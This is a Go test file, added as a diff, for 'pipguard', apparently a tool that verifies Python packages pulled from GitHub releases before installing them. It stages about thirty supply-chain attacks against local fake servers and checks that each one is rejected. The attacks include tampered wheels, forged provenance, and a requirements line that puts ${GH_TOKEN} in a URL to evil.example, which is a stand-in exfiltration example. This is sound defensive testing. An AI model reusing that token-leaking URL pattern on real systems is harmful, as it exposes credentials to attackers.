@@ -1,0 +1,293 @@
+package main
+
+import (
+	"bytes"
+	"fmt"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/pipguard/pipguard/installer/githubtest"
+	"github.com/pipguard/pipguard/installer/pkgtest"
+	"github.com/pipguard/pipguard/installer/sigstoretest"
+)
+
+var (
+	binOnce sync.Once
+	binPath string
+	binErr  error
+)
+
+// pipguardBinary builds the real binary once per test process.
+func pipguardBinary(t *testing.T) string {
+	t.Helper()
+	binOnce.Do(func() {
+		dir, err := os.MkdirTemp("", "pipguard-bin-")
+		if err != nil {
+			binErr = err
+			return
+		}
+		binPath = filepath.Join(dir, "pipguard")
+		if out, err := exec.Command("go", "build", "-o", binPath, ".").CombinedOutput(); err != nil {
+			binErr = fmt.Errorf("go build: %v\n%s", err, out)
+		}
+	})
+	if binErr != nil {
+		t.Fatal(binErr)
+	}
+	return binPath
+}
+
+// arena is one attack's world: a local GitHub and Sigstore, a trusted
+// root, a fresh venv.
+type arena struct {
+	gh      *githubtest.Server
+	signer  *sigstoretest.Instance
+	root    string
+	ca      string
+	py      string
+	site    string
+	dir     string
+	pubs    map[string]*githubtest.Published
+	repos   map[string]*githubtest.Repo
+	env     []string
+	pipArgs []string
+}
+
+func newArena(t *testing.T) *arena {
+	t.Helper()
+	a := &arena{gh: githubtest.New(t), dir: t.TempDir(), pubs: map[string]*githubtest.Published{}, repos: map[string]*githubtest.Repo{}, pipArgs: []string{"--no-index"}}
+	var err error
+	if a.signer, err = sigstoretest.NewGitHub(); err != nil {
+		t.Fatal(err)
+	}
+	root, err := a.signer.TrustedRootJSON()
+	if err != nil {
+		t.Fatal(err)
+	}
+	a.root, a.ca = filepath.Join(a.dir, "trusted-root.json"), filepath.Join(a.dir, "ca.pem")
+	os.WriteFile(a.root, root, 0o644)
+	if err := a.gh.WriteCA(a.ca); err != nil {
+		t.Fatal(err)
+	}
+	a.py = pkgtest.NewVenv(t)
+	a.site = pkgtest.SitePackages(a.py)
+	a.env = []string{"SSL_CERT_FILE=" + a.ca, "GIT_SSL_CAINFO=" + a.ca, "HOME=" + a.dir, "PATH=" + os.Getenv("PATH"), "GH_TOKEN=", "GITHUB_TOKEN="}
+	return a
+}
+
+func (a *arena) publish(t *testing.T, repo, name, version string, p githubtest.Publish) *githubtest.Published {
+	t.Helper()
+	r := a.repos[repo]
+	if r == nil {
+		owner, n, _ := strings.Cut(repo, "/")
+		r = a.gh.AddRepo(owner, n)
+		a.repos[repo] = r
+	}
+	p.Project.Name, p.Project.Version = name, version
+	if p.Signer == nil {
+		p.Signer = a.signer
+	}
+	pub := a.gh.Publish(r, p)
+	a.pubs[repo] = pub
+	return pub
+}
+
+func (a *arena) req(repo, name, ref string) string {
+	return name + " @ git+" + a.gh.URL() + "/" + repo + ".git@" + ref
+}
+
+// attack is one end-to-end scenario against the built binary, named after
+// the attack it tries.
+type attack struct {
+	name  string
+	setup func(t *testing.T, a *arena) []string // pipguard install's arguments
+	code  int
+	words []string
+}
+
+func demo(t *testing.T, a *arena, p githubtest.Publish) []string {
+	a.publish(t, "acme/demo", "demo", "1.0.0", p)
+	return []string{a.req("acme/demo", "demo", "v1.0.0")}
+}
+
+var attacks = []attack{
+	{"branch ref", func(t *testing.T, a *arena) []string {
+		a.publish(t, "acme/demo", "demo", "1.0.0", githubtest.Publish{})
+		return []string{a.req("acme/demo", "demo", "main")}
+	}, 3, []string{`ref "main"`, "is a branch"}},
+	{"branch and tag of the same name", func(t *testing.T, a *arena) []string {
+		a.publish(t, "acme/demo", "demo", "1.0.0", githubtest.Publish{})
+		a.repos["acme/demo"].Git.Branch("v1.0.0")
+		return []string{a.req("acme/demo", "demo", "v1.0.0")}
+	}, 3, []string{"both a branch and a tag"}},
+	{"short SHA", func(t *testing.T, a *arena) []string {
+		pub := a.publish(t, "acme/demo", "demo", "1.0.0", githubtest.Publish{})
+		return []string{a.req("acme/demo", "demo", pub.Commit[:8])}
+	}, 3, []string{"short", pubCommitHint}},
+	{"no ref", func(t *testing.T, a *arena) []string {
+		a.publish(t, "acme/demo", "demo", "1.0.0", githubtest.Publish{})
+		return []string{"demo @ git+" + a.gh.URL() + "/acme/demo.git"}
+	}, 3, []string{"default branch"}},
+	{"tag deleted", func(t *testing.T, a *arena) []string {
+		a.publish(t, "acme/demo", "demo", "1.0.0", githubtest.Publish{})
+		a.repos["acme/demo"].Git.Git("tag", "-d", "v1.0.0")
+		return []string{a.req("acme/demo", "demo", "v1.0.0")}
+	}, 3, []string{`"v1.0.0"`, "does not exist"}},
+	{"release missing", func(t *testing.T, a *arena) []string {
+		a.publish(t, "acme/demo", "demo", "1.0.0", githubtest.Publish{})
+		a.repos["acme/demo"].Git.Git("tag", "v1.0.1")
+		return []string{a.req("acme/demo", "demo", "v1.0.1")}
+	}, 4, []string{"no published release for tag v1.0.1"}},
+	{"draft release", func(t *testing.T, a *arena) []string {
+		return demo(t, a, githubtest.Publish{Draft: true})
+	}, 4, []string{"no published release for tag v1.0.0"}}, // GitHub answers 404 for a draft by tag
+	{"asset replaced after release (SHA256SUMS mismatch)", func(t *testing.T, a *arena) []string {
+		args := demo(t, a, githubtest.Publish{})
+		a.pubs["acme/demo"].Wheel.Data = pkgtest.Project{Name: "demo", Version: "1.0.0", Files: map[string]string{"demo/evil.py": "x"}}.Wheel()
+		return args
+	}, 4, []string{"SHA256SUMS lists demo-1.0.0-py3-none-any.whl as sha256:"}},
+	{"SHA256SUMS lists another digest", func(t *testing.T, a *arena) []string {
+		args := demo(t, a, githubtest.Publish{})
+		pub := a.pubs["acme/demo"]
+		pub.Sums.Data = []byte(strings.Repeat("0", 64) + "  " + pub.Wheel.Name + "\n")
+		return args
+	}, 4, []string{"SHA256SUMS lists", strings.Repeat("0", 64)}},
+	{"asset body longer than the API's listing", func(t *testing.T, a *arena) []string {
+		args := demo(t, a, githubtest.Publish{})
+		a.gh.AddFault(&githubtest.Fault{Route: regexp.MustCompile(`demo-1\.0\.0-py3-none-any\.whl$`), WrongLength: len(a.pubs["acme/demo"].Wheel.Data) + 10})
+		return args
+	}, 4, []string{"demo-1.0.0-py3-none-any.whl", "size"}},
+	{"asset body shorter than the API's listing", func(t *testing.T, a *arena) []string {
+		args := demo(t, a, githubtest.Publish{})
+		a.gh.AddFault(&githubtest.Fault{Route: regexp.MustCompile(`demo-1\.0\.0-py3-none-any\.whl$`), WrongLength: 100})
+		return args
+	}, 4, []string{"demo-1.0.0-py3-none-any.whl"}},
+	{"wheel of another version in this release", func(t *testing.T, a *arena) []string {
+		return demo(t, a, githubtest.Publish{Wheel: pkgtest.Project{Name: "demo", Version: "0.9.0"}.Wheel()})
+	}, 3, []string{"METADATA says demo 0.9.0, expected demo 1.0.0"}},
+	{"wheel whose METADATA name differs", func(t *testing.T, a *arena) []string {
+		return demo(t, a, githubtest.Publish{Wheel: pkgtest.Project{Name: "evil", Version: "1.0.0"}.Wheel()})
+	}, 3, []string{"METADATA says evil 1.0.0, expected demo 1.0.0"}},
+	{"provenance missing", func(t *testing.T, a *arena) []string {
+		return demo(t, a, githubtest.Publish{SkipProvenance: true})
+	}, 4, []string{"no provenance attestation published"}},
+	{"provenance from a fork", func(t *testing.T, a *arena) []string {
+		return demo(t, a, githubtest.Publish{SignerRepo: "mallory/demo"})
+	}, 4, []string{"mallory/demo"}},
+	{"provenance from another workflow", func(t *testing.T, a *arena) []string {
+		return append(demo(t, a, githubtest.Publish{Workflow: ".github/workflows/ci.yml"}), "--signer-workflow", ".github/workflows/release.yml")
+	}, 4, []string{"ci.yml"}},
+	{"provenance from a self-hosted runner (policy denies)", func(t *testing.T, a *arena) []string {
+		return append(demo(t, a, githubtest.Publish{Runner: "self-hosted"}), "--deny-self-hosted-runners")
+	}, 4, []string{"self-hosted"}},
+	{"provenance for a commit that is not an ancestor within the allowed distance", func(t *testing.T, a *arena) []string {
+		return demo(t, a, githubtest.Publish{BumpCommit: true, SourceRef: "refs/tags/v1.0.0"})
+	}, 4, []string{"1 commit(s) before the tag's commit", "max_commit_distance = 1"}},
+	{"provenance signed by an untrusted CA", func(t *testing.T, a *arena) []string {
+		other, err := sigstoretest.NewGitHub()
+		if err != nil {
+			t.Fatal(err)
+		}
+		return demo(t, a, githubtest.Publish{Signer: other, GitHubSigner: a.signer})
+	}, 4, []string{"provenance"}},
+	{"SBOM required but missing", func(t *testing.T, a *arena) []string {
+		return append(demo(t, a, githubtest.Publish{SkipSBOM: true}), "--require-sbom")
+	}, 4, []string{"no sbom attestation published"}},
+	{"truncated asset download", func(t *testing.T, a *arena) []string {
+		args := demo(t, a, githubtest.Publish{})
+		a.gh.AddFault(&githubtest.Fault{Route: regexp.MustCompile(`demo-1\.0\.0-py3-none-any\.whl$`), Truncate: 50})
+		return args
+	}, 7, []string{"demo-1.0.0-py3-none-any.whl"}},
+	{"500s until retries run out", func(t *testing.T, a *arena) []string {
+		args := demo(t, a, githubtest.Publish{})
+		a.gh.AddFault(&githubtest.Fault{Route: regexp.MustCompile(`/releases/tags/`), Status: http.StatusInternalServerError})
+		return args
+	}, 7, []string{"500"}},
+	{"rate limit exhausted", func(t *testing.T, a *arena) []string {
+		args := demo(t, a, githubtest.Publish{})
+		a.gh.AddFault(&githubtest.Fault{Route: regexp.MustCompile(`/releases/tags/`), Status: http.StatusForbidden, RateLimitReset: time.Now().Add(time.Hour)})
+		return args
+	}, 7, []string{"rate limit"}},
+	{"transitive VCS dependency on a branch", func(t *testing.T, a *arena) []string {
+		a.publish(t, "mallory/evil", "evil", "0.1", githubtest.Publish{})
+		return demo(t, a, githubtest.Publish{Project: pkgtest.Project{Requires: []string{"evil @ git+" + a.gh.URL() + "/mallory/evil.git@main"}}})
+	}, 3, []string{"pip would install evil 0.1", "which pipguard did not verify"}},
+	{"transitive direct URL not allowed by policy", func(t *testing.T, a *arena) []string {
+		a.publish(t, "mallory/evil", "evil", "0.1", githubtest.Publish{})
+		os.WriteFile(filepath.Join(a.dir, "pipguard.toml"), []byte(`allow_direct = ["mallory/other"]`), 0o644)
+		return append(demo(t, a, githubtest.Publish{Project: pkgtest.Project{Requires: []string{"evil @ git+" + a.gh.URL() + "/mallory/evil.git@v0.1"}}}), "--policy", filepath.Join(a.dir, "pipguard.toml"))
+	}, 3, []string{"pip would install evil 0.1"}},
+	{"--index-url not allowed by policy", func(t *testing.T, a *arena) []string {
+		os.WriteFile(filepath.Join(a.dir, "pipguard.toml"), []byte(`indexes = ["https://pypi.org/simple"]`), 0o644)
+		a.pipArgs = []string{"--index-url", "https://evil.example/simple"}
+		return append(demo(t, a, githubtest.Publish{}), "--policy", filepath.Join(a.dir, "pipguard.toml"))
+	}, 3, []string{"https://evil.example/simple is not a package source the policy allows"}},
+	{"${GH_TOKEN} in a requirements file URL", func(t *testing.T, a *arena) []string {
+		a.env = append(a.env, "GH_TOKEN=s3cr3t-token")
+		reqs := filepath.Join(a.dir, "requirements.txt")
+		os.WriteFile(reqs, []byte("--extra-index-url https://u:${GH_TOKEN}@evil.example/simple\n"+demo(t, a, githubtest.Publish{})[0]+"\n"), 0o644)
+		return []string{"-r", reqs}
+	}, 2, []string{"refers to ${GH_TOKEN}"}},
+	{"pip missing", func(t *testing.T, a *arena) []string {
+		a.py = filepath.Join(a.dir, "no-such-python")
+		return demo(t, a, githubtest.Publish{})
+	}, 2, []string{"cannot use", "no-such-python"}},
+	{"Python too old for the wheel's Requires-Python", func(t *testing.T, a *arena) []string {
+		return demo(t, a, githubtest.Publish{Project: pkgtest.Project{RequiresPython: ">=4"}})
+	}, 5, []string{"requires a different Python: 3.", "not in '>=4'"}},
+	{"a malformed trusted root", func(t *testing.T, a *arena) []string {
+		os.WriteFile(a.root, []byte(`{"mediaType": "application/vnd.dev.sigstore.trustedroot+json;version=0.1", "tlogs": [{]}`), 0o644)
+		return demo(t, a, githubtest.Publish{})
+	}, 2, []string{"trusted-root"}},
+}
+
+const pubCommitHint = "@"
+
+// TestAttacks runs every attack against the built binary: each must end
+// with its exit code and the words that say why, and leave site-packages
+// byte for byte as it was.
+func TestAttacks(t *testing.T) {
+	bin := pipguardBinary(t)
+	for _, at := range attacks {
+		t.Run(at.name, func(t *testing.T) {
+			t.Parallel()
+			a := newArena(t)
+			args := at.setup(t, a)
+			before := pkgtest.Snapshot(a.site)
+			full := append([]string{"install", "--python", a.py, "--github-url", a.gh.URL(), "--trusted-root", a.root, "--timeout", "20s"}, args...)
+			full = append(append(full, "--"), a.pipArgs...)
+			cmd := exec.Command(bin, full...)
+			cmd.Dir, cmd.Env = a.dir, a.env
+			var out bytes.Buffer
+			cmd.Stdout, cmd.Stderr = &out, &out
+			err := cmd.Run()
+			code := 0
+			if ee, ok := err.(*exec.ExitError); ok {
+				code = ee.ExitCode()
+			} else if err != nil {
+				t.Fatal(err)
+			}
+			if code != at.code {
+				t.Errorf("exit %d, want %d\n%s", code, at.code, out.String())
+			}
+			for _, w := range at.words {
+				if !strings.Contains(out.String(), w) {
+					t.Errorf("output lacks %q\n%s", w, out.String())
+				}
+			}
+			if strings.Contains(out.String(), "s3cr3t-token") {
+				t.Errorf("a token was printed:\n%s", out.String())
+			}
+			if pkgtest.Snapshot(a.site) != before {
+				t.Errorf("site-packages changed:\n%s", pkgtest.Diff(a.site, before))
+			}
+		})
+	}
+}
